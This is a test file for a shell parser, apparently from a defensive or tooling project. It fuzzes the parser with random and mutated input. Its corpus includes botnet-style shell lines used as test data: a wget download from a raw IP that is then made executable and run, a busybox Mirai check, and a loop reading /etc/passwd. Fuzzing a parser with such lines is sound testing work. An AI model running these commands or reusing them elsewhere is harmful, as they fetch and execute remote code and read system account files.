// Property tests: random and mutated shell input never makes the parser throw anything but a
// ShellSyntaxError, and never takes long.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { parse } from './parser.ts';
import { ShellSyntaxError } from './syntax-error.ts';

const corpus = [
  'cd /tmp || cd /var/run; wget http://1.2.3.4/x.sh; chmod 777 x.sh; sh x.sh',
  'echo -e "\\x7f\\x45\\x4c\\x46" > .d; cat .d',
  'if [ -f /bin/busybox ]; then busybox MIRAI; fi',
  'for i in `ls /proc`; do echo $((i+1)) ${i:-x} "$(cat /proc/$i/cmdline)"; done',
  'while read l; do echo $l; done < /etc/passwd 2>&1 >/dev/null &',
  "case $x in a|b) echo 'q';; *) (exit 3);; esac",
  'f() { local a=1; return $a; }; f && echo ok',
];

const shellChars = fc.constantFrom(...' \t\n;&|()<>{}$`\'"\\#*?[]=!-0123456789abcdefifthendonecas'.split(''), 'if ', 'then ', 'fi', 'do ', 'done', '$(', '$((', '${', '))', '<<', '2>&1');

function parsesOrSyntaxError(source: string): void {
  try {
    parse(source);
  } catch (error) {
    assert.ok(error instanceof ShellSyntaxError, `${String(error)} for ${JSON.stringify(source)}`);
  }
}

test('random shell-ish input parses or gives a syntax error', () => {
  fc.assert(fc.property(fc.array(shellChars, { maxLength: 200 }).map((a) => a.join('')), parsesOrSyntaxError), { numRuns: 2000 });
});

test('arbitrary strings parse or give a syntax error', () => {
  fc.assert(fc.property(fc.string({ maxLength: 300, unit: 'binary' }), parsesOrSyntaxError), { numRuns: 1000 });
});

test('mutated attack lines parse or give a syntax error', () => {
  const mutated = fc.tuple(fc.constantFrom(...corpus), fc.array(fc.tuple(fc.nat(), fc.nat(3), fc.string({ maxLength: 4 })), { maxLength: 8 })).map(([line, edits]) => {
    let text = line;
    for (const [at, cut, insert] of edits) {
      const pos = at % (text.length + 1);
      text = text.slice(0, pos) + insert + text.slice(pos + cut);
    }
    return text;
  });
  fc.assert(fc.property(mutated, parsesOrSyntaxError), { numRuns: 2000 });
});

test('deep nesting of every construct stays bounded', () => {
  const opener = fc.constantFrom('(', '{ ', '$(', '`', '${x:-', '$((', 'if ', 'while ', '"$(', "'");
  fc.assert(fc.property(opener, fc.integer({ min: 1, max: 20_000 }), (open, n) => parsesOrSyntaxError(open.repeat(n))), { numRuns: 60 });
});
